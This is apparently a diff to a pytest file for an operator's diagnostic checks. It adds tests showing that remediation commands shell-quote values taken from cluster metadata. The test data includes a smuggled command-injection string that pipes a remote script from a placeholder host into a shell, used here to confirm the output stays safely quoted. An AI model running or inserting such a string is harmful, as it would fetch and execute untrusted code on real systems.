@@ -1,6 +1,7 @@
 """What each check says of facts: a table of what is amiss, and of what looks amiss and is not."""
 
 import copy
+import shlex
 from dataclasses import dataclass, replace
 from datetime import timedelta
 from typing import Any
@@ -500,7 +501,7 @@ CASES = {
         with_operator(watched=("fraud",)),
         PROBLEM,
         ("watches fraud only: nobody looks after the Models in lending",),
-        "--set watchNamespaces={fraud,lending}",
+        "--set 'watchNamespaces={fraud,lending}'",
     ),
     "a watched namespace that does not exist": Case(
         "namespaces",
@@ -880,3 +881,57 @@ def test_a_deployment_of_the_chart_tells_how_the_operator_works() -> None:
 
 def of(check: str, given: Installation) -> list[Finding]:
     return [each for each in examine(given) if each.check == check]
+
+
+STRANGE = "x; curl https://example.com | sh #"
+BROUGHT = {"meta.helm.sh/release-name": STRANGE, "meta.helm.sh/release-namespace": STRANGE}
+ELSEWHERE = replace(OPERATOR, namespace="team-a", helm_release=STRANGE)
+COPIED = {
+    "the release of a second operator": ("alone", but(everywhere=(OPERATOR, ELSEWHERE))),
+    "the release of the operator": ("namespaces", but(operators=(replace(ELSEWHERE, watched=("modelward-system",)),))),
+    "a namespace that it is to watch": ("namespaces", with_operator(watched=("lending", STRANGE))),
+    "the release of the CRDs": (
+        "definitions",
+        but(
+            definitions={
+                name: {**each, "metadata": {"name": name, "annotations": BROUGHT}, "spec": {}}
+                for name, each in definitions().items()
+            }
+        ),
+    ),
+    "the holder of the Lease": ("leader", but(lease=lease(holder=STRANGE))),
+    "somebody who holds a role": ("approvers", but(access=bare(access(STRANGE)))),
+}
+
+
+@pytest.mark.parametrize(("check", "given"), COPIED.values(), ids=COPIED)
+def test_what_others_wrote_is_one_word_of_a_command_that_is_to_be_copied(check: str, given: Installation) -> None:
+    """Whoever labels a Deployment, or names a subject of a RoleBinding, must not write what an administrator types."""
+    found = of(check, given)
+    assert found
+    for finding in found:
+        words = shlex.split(finding.remedy)
+        assert any(STRANGE in word for word in words), finding.remedy
+        assert "curl" not in words
+
+
+@pytest.mark.parametrize("text", ["- a list", "prometheusSources: true", "prometheusSources: [platform]"])
+def test_a_configuration_of_another_shape_names_no_source(text: str) -> None:
+    own = model()
+    own["spec"]["serving"]["metrics"] = {"source": {"prometheus": "platform"}}
+    (said,) = of("sources", but(configuration=configuration(text), models=(own,)))
+    assert (said.level, "(it knows none)" in said.message) == (PROBLEM, True)
+
+
+def test_an_answer_that_is_no_page_of_metrics_ends_the_check() -> None:
+    (said,) = of("audit", but(configuration=configuration(audit=S3), metrics={"modelward-0": "<html>sign in {"}))
+    assert said.level is UNSEEN
+    assert said.message == "what pod modelward-0 answers on the port of the operator's metrics are no metrics"
+
+
+def test_a_port_that_is_no_number_is_the_usual_one() -> None:
+    from tests.unit.charts.rendering import only
+
+    deployment = only("Deployment")
+    deployment["spec"]["template"]["spec"]["containers"][0]["args"] = ["--health-port=http"]
+    assert operator_of(deployment).port == 8080
